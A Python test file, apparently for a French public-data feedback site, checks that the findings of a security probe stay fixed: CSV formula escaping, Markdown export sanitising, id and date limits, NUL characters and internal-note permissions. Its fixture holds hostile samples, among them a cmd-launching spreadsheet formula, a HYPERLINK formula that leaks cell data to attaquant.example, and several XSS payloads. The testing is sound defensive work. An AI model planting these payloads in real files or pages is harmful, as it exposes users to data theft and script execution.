"""The findings of the attack probe, each held by a test that fails without its fix: formulas in the CSV zip,
raw HTML and script links in the Markdown export, ids and days out of range, NUL characters, an internal note
asked by someone who may not write one."""

from __future__ import annotations

import csv
import io
import zipfile
from email.message import EmailMessage
from email.utils import make_msgid

import comrak
import pytest
import sqlalchemy as sa
from wtforms import IntegerField

from feedback.capitalisation import services as reports
from feedback.capitalisation.scope import Scope
from feedback.extensions import db
from feedback.forms import Form
from feedback.input_limits import MAX_ID, NUL_IN_REQUEST, NUMBER_TOO_LARGE
from feedback.mail.inbound import NUL_IN_MAIL, receive
from feedback.mail.models import InboundStatus
from feedback.mail.reply_address import reply_address
from feedback.threads.models import Message, Thread, ThreadKind

from .. import factories
from ..threads.conftest import count, fresh, html, page_text, post_thread, question
from .executable import executable_constructs

HUGE = "99999999999999999999"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


# The published report's files -------------------------------------------------------------------------------


@pytest.fixture
def hostile_report(scene):
    """A published report whose texts (a dataset title, a producer's name, a thread title, a recommendation, the
    report's own title and summary) are formulas, raw HTML and script links."""
    producer = factories.create_organisation(name="@SUM(1+1) Service =cmd|' /C calc'!A0")
    dataset = factories.create_dataset(
        title='=HYPERLINK("https://attaquant.example/?v="&A1;"Cliquez")', organisation=producer
    )
    post_thread(scene.author, ThreadKind.QUALITY_ISSUE, title="+1+1 lien mort", dataset=dataset, category="dead_link")
    report = reports.create_report(
        scene.curator,
        "-2+3 <script>alert(1)</script> bilan",
        Scope(),
        summary='<img src=x onerror="alert(2)"> [cliquez](javascript:alert(3)) ![i](data:text/html,<b>)',
    )
    reports.add_recommendation(
        report,
        title="=1+1 <iframe src=//attaquant.example>",
        text="@lien [ici](JaVaScRiPt:alert(4)) et [là](java&#115;cript:alert(5))\n\n<svg onload=alert(6)>\n\n"
        "[réf]: vbscript:msgbox(7)\n\n[ok](https://www.ecologie.gouv.fr/)",
    )
    reports.publish_report(report, scene.curator)
    db.session.commit()
    return report


def csv_cells(zip_bytes: bytes) -> dict[str, list[str]]:
    cells = {}
    with zipfile.ZipFile(io.BytesIO(zip_bytes)) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                text = archive.read(name).decode("utf-8-sig")
                cells[name] = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    return cells


def test_csv_cells_that_would_open_a_formula_are_written_as_text(web, hostile_report):
    response = web.get(f"/rapports/{hostile_report.slug}.csv.zip")

    assert response.status_code == 200
    cells = csv_cells(response.data)
    formulas = [(name, cell) for name, row in cells.items() for cell in row if cell.startswith(FORMULA_STARTS)]
    assert formulas == []
    assert '\'=HYPERLINK("https://attaquant.example/?v="&A1;"Cliquez")' in cells["datasets.csv"]
    assert "'@SUM(1+1) Service =cmd|' /C calc'!A0" in cells["producers.csv"]
    assert "'=1+1 <iframe src=//attaquant.example>" in cells["recommendations.csv"]


def test_markdown_export_shows_raw_html_as_text_and_drops_script_links(web, hostile_report):
    response = web.get(f"/rapports/{hostile_report.slug}.md")
    assert response.status_code == 200
    markdown = response.get_data(as_text=True)

    # Rendered as a reader's Markdown viewer would, raw HTML allowed (many do not sanitise).
    options = comrak.RenderOptions()
    options.unsafe_ = True
    rendered = comrak.render_markdown(markdown, render_options=options)

    assert executable_constructs(rendered) == []
    for shown in ("<script>alert(1)</script>", '<img src=x onerror="alert(2)">', "<svg onload=alert(6)>"):
        assert shown in page_text(rendered)
    assert '<a href="https://www.ecologie.gouv.fr/">ok</a>' in rendered
    assert "javascript" not in rendered.lower().replace("java&amp;#115;cript", "")
    assert "vbscript:" not in rendered


# Ids out of range --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        f"/fils/{HUGE}",
        f"/fils/{MAX_ID + 1}",
        f"/threads/{HUGE}",
        f"/fils/{HUGE}/flux.atom",
        f"/fils/1/fichiers/{HUGE}",
        f"/fils/{HUGE}/messages/1/modifier",
    ],
)
def test_an_id_beyond_the_database_integers_is_not_found(web, scene, url):
    web.sign_in(scene.curator)

    response = web.get(url)

    assert response.status_code == 404
    assert "Page introuvable" in page_text(response)


@pytest.mark.parametrize(
    "url",
    [
        f"/notifications/{HUGE}/lue",
        f"/fils/{HUGE}/messages",
        f"/fils/{HUGE}/statut",
        f"/rapports/bilan/recommandations/{HUGE}",
        f"/compte/sessions/{HUGE}/fin",
        f"/organisations/ddt/membres/{HUGE}/retrait",
    ],
)
def test_a_form_sent_to_an_id_beyond_the_database_integers_is_not_found(web, scene, url):
    web.sign_in(scene.curator)

    assert web.post(url, data={"body": "Bonjour"}).status_code == 404


def test_routing_a_thread_id_beyond_the_integers_says_so_next_to_the_field(web, scene):
    web.sign_in(scene.curator)

    response = web.post("/triage", data={"thread_id": HUGE, "organisation": scene.producer.slug})

    assert response.status_code == 200  # the form refused (the number is out of range), the page shown again
    assert "Fils à orienter" in page_text(response)


@pytest.mark.parametrize(("sent", "valid"), [(str(MAX_ID), True), (str(MAX_ID + 1), False), (HUGE, False)])
def test_a_number_beyond_the_integer_columns_is_an_error_of_its_field(app, sent, valid):
    class NumberForm(Form):
        class Meta:
            csrf = False

        number = IntegerField()

    with app.test_request_context("/", method="POST", data={"number": sent}):
        form = NumberForm()

        assert form.validate() is valid
        assert form.number.errors == ([] if valid else [NUMBER_TOO_LARGE])


def test_a_duplicate_of_a_thread_id_beyond_the_integers_is_not_found(web, scene):
    thread = question(scene)
    web.sign_in(scene.curator)

    response = web.post(
        f"/fils/{thread.id}/statut", data={"status": "duplicate", "duplicate_of": HUGE, "version": thread.version}
    )

    assert response.status_code == 200
    assert "Fil d'origine introuvable." in page_text(response)
    assert fresh(thread.id).status == "new"


# Days out of range --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    ["du=0001-01-01&au=9999-12-31", "du=0001-01-01", "au=9999-12-31", "du=9999-12-31", "au=0001-01-01"],
)
def test_threads_and_feeds_take_any_day_as_a_clamped_filter(web, scene, query):
    thread = question(scene, title="Zones humides à la limite du calendrier")
    organisation, dataset = scene.producer.slug, scene.dataset.catalogue_id

    listed = web.get(f"/fils?{query}")
    assert listed.status_code == 200
    for url in (
        f"/fils/flux.atom?{query}",
        f"/organisations/{organisation}/flux.atom?{query}",
        f"/jeux-de-donnees/{dataset}/flux.atom?{query}",
    ):
        assert web.get(url).status_code == 200, url
    shown = "Zones humides à la limite du calendrier" in page_text(listed)
    assert shown == (query in ("du=0001-01-01&au=9999-12-31", "du=0001-01-01", "au=9999-12-31")), thread.id


@pytest.mark.parametrize("path", ["/capitalisation", "/rapports/nouveau"])
def test_capitalisation_says_a_day_out_of_the_calendar_is_ignored(web, scene, path):
    question(scene)
    web.sign_in(scene.curator)

    response = web.get(f"{path}?du=0001-01-01&au=9999-12-31")

    assert response.status_code == 200
    assert "Indiquez un jour entre le 01/01/1900 et le 31/12/2100 : le 01/01/0001 est ignoré." in page_text(response)
    assert "Indiquez un jour entre le 01/01/1900 et le 31/12/2100 : le 31/12/9999 est ignoré." in page_text(response)


@pytest.mark.parametrize("table", ["services", "qualite", "demande", "demandes-similaires"])
def test_capitalisation_tables_take_days_out_of_the_calendar_as_the_default_period(web, scene, table):
    question(scene)

    response = web.get(f"/capitalisation/{table}?du=0001-01-01&au=9999-12-31")

    assert response.status_code == 200
    assert "Fils reçus du " in page_text(response)


# NUL characters -----------------------------------------------------------------------------------------------


def test_a_title_holding_a_nul_character_is_refused_in_french(web, scene):
    web.sign_in(scene.author)

    response = web.post(
        "/fils/nouveau?type=question",
        data={"dataset": scene.dataset.catalogue_id, "title": "Titre\x00caché", "body": "Bonjour"},
    )

    assert response.status_code == 400
    assert NUL_IN_REQUEST in page_text(response)
    assert count(Thread) == 0


@pytest.mark.parametrize(
    "field", ["body", "files_name", "dataset", "title", "email", "q"], ids=lambda field: f"nul-in-{field}"
)
def test_a_nul_character_anywhere_in_a_request_is_refused_before_it_is_stored(web, scene, field):
    thread = question(scene)
    web.sign_in(scene.author)
    before = count(Message)

    if field == "body":
        response = web.post(f"/fils/{thread.id}/messages", data={"body": "Bonjour\x00", "version": thread.version})
    elif field == "files_name":
        response = web.post(
            f"/fils/{thread.id}/messages",
            data={"body": "Bonjour", "files": (io.BytesIO(b"a;b\n"), "tableau\x00.csv")},
            content_type="multipart/form-data",
        )
    elif field == "dataset":
        response = web.post("/fils/nouveau?type=question", data={"dataset": "zones\x00", "title": "T", "body": "B"})
    elif field == "title":
        response = web.get("/fils/nouveau?type=question&titre=a%00b")
    elif field == "email":
        response = web.post("/compte/profil", data={"name": "Alice\x00Autrice"})
    else:
        response = web.get("/fils?q=zones%00inondables")

    assert response.status_code == 400
    assert NUL_IN_REQUEST in page_text(response)
    assert count(Message) == before
    assert [title for title in db.session.scalars(sa.select(Thread.title)) if "\x00" in title] == []


def test_a_json_client_is_told_of_the_nul_character_in_json(web, scene):
    response = web.get("/jeux-de-donnees/suggestions?q=a%00", headers={"Accept": "application/json"})

    assert response.status_code == 400
    assert response.get_json() == {"error": "Requête incorrecte", "message": NUL_IN_REQUEST}


# Internal notes -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("actor", ["author", "other_user", "other_producer"])
def test_an_internal_note_asked_by_someone_who_may_not_write_one_is_refused_not_published(web, scene, actor):
    thread = question(scene)
    web.sign_in(scene.actor(actor))

    response = web.post(
        f"/fils/{thread.id}/messages",
        data={"body": "Ceci devait rester entre nous.", "internal": "y", "version": thread.version},
    )

    assert response.status_code == 200
    assert "Seuls les membres du service producteur et les administrateurs des données écrivent des notes " in (
        page_text(response)
    )
    assert "votre message n'a pas été publié" in page_text(response)
    assert count(Message, Message.thread_id == thread.id) == 1
    assert "Ceci devait rester entre nous." not in page_text(web.get(f"/fils/{thread.id}"))


def test_a_member_of_the_service_still_writes_internal_notes(web, scene):
    thread = question(scene)
    web.sign_in(scene.member)

    response = web.post(
        f"/fils/{thread.id}/messages", data={"body": "Pour le service.", "internal": "y", "version": thread.version}
    )

    assert response.status_code == 303
    note = db.session.scalars(sa.select(Message).where(Message.thread_id == thread.id, Message.internal)).one()
    assert note.body == "Pour le service."
    web.sign_in(None)
    assert "Pour le service." not in html(web.get(f"/fils/{thread.id}"))


def test_a_reply_by_mail_holding_a_nul_character_is_refused_with_its_reason(app, scene):
    thread = question(scene)
    mail = EmailMessage()
    mail["From"] = scene.author.email
    mail["Message-ID"] = make_msgid(domain="exemple.fr")
    mail["Subject"] = "Re: une réponse"
    mail.set_content("Il s'agit de Gien.\x00 Caché.")
    address = reply_address(scene.author.id, thread.id)

    outcome = receive(bytes(mail), scene.author.email, address)

    assert outcome.status == InboundStatus.REFUSED
    assert outcome.reason == NUL_IN_MAIL
    assert count(Message, Message.thread_id == thread.id) == 1
